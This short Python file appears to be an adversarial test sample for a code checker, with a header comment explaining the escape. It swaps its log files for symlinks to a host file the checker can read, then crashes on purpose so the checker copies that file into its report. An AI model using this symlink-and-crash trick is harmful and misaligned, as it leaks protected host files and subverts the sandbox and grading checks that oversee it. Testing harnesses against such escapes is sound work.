# Escape: get a host file into the report. The candidate's stdout and stderr logs were files in
# its scratch folder that the checker read by name when the candidate crashed: replace them by
# links to a file the checker can read and the candidate cannot (the repository's manifest), then
# crash so that the checker quotes "its" stderr.
import ctypes
import os

for name in ("stderr.log", "stdout.log"):
    try:
        os.unlink(name)
    except OSError:
        pass
    os.symlink("__TARGET__", name)


def forward(x, dim, half_to_float):
    ctypes.string_at(0)
